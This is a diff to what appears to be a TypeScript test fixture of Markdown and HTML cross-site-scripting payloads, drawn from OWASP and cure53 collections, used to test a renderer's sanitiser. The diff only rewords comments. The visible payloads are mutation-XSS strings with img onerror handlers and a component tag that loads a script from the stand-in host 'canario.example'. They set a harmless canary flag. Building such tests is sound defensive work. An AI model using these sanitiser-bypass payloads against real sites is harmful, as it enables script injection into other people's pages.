@@ -1,16 +1,16 @@
-/** What an attack would leave behind where it ran: a property of the page's window. */
+/** The property of `window` that an attack sets if it runs. */
 export const CANARY = 'ataque';
 
-/** The host that attacks try to reach; no such host exists. */
+/** The nonexistent host that attacks try to reach. */
 const CANARY_HOST = 'canario.example';
 
 const run = `window.${CANARY}=1`;
 const host = `https://${CANARY_HOST}`;
 
 /**
- * Markdown that tries to run a script, to load something from elsewhere, to restyle the page or to take over its names,
- * by kind. After the collections of OWASP (XSS Filter Evasion), cure53 (DOMPurify, HTML5 Security Cheatsheet) and
- * markdown renderers' own reports.
+ * Markdown, by kind, that tries to run a script, load something from elsewhere, restyle the page or clobber its names.
+ * From the collections of OWASP (XSS Filter Evasion) and cure53 (DOMPurify, HTML5 Security Cheatsheet), and from bug
+ * reports of Markdown renderers.
  */
 export const attacks: Readonly<Record<string, readonly string[]>> = {
   'links of markdown': [
@@ -179,7 +179,7 @@ export const attacks: Readonly<Record<string, readonly string[]>> = {
     `<slot name=head></slot><astro-island component-url=${host}/x.js client=load></astro-island>`,
     `<dialog open>x</dialog>`,
   ],
-  // Last in the text of all: they would hide what comes after them.
+  // Last in the combined text, because they would hide whatever follows.
   'markup that changes when it is read again': [
     `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
     `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
@@ -215,7 +215,7 @@ export const attacks: Readonly<Record<string, readonly string[]>> = {
   ],
 };
 
-/** Markup that would hide what comes after it, and so is shown as it was written, with the whole text. */
+/** Markup that would hide whatever follows, so the whole text is shown as written. */
 export const unfinished: readonly string[] = [
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
   `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
@@ -226,7 +226,7 @@ export const unfinished: readonly string[] = [
   `<div`,
 ];
 
-/** All attacks as one text, without what a database keeps no text of. */
+/** All attacks in one text, without the NUL that a database rejects. */
 export const allAttacks: string = Object.entries(attacks)
   .flatMap(([kind, texts]) => texts.map((text, index) => `${kind} ${index + 1}\n\n${text}`))
   .join('\n\n')
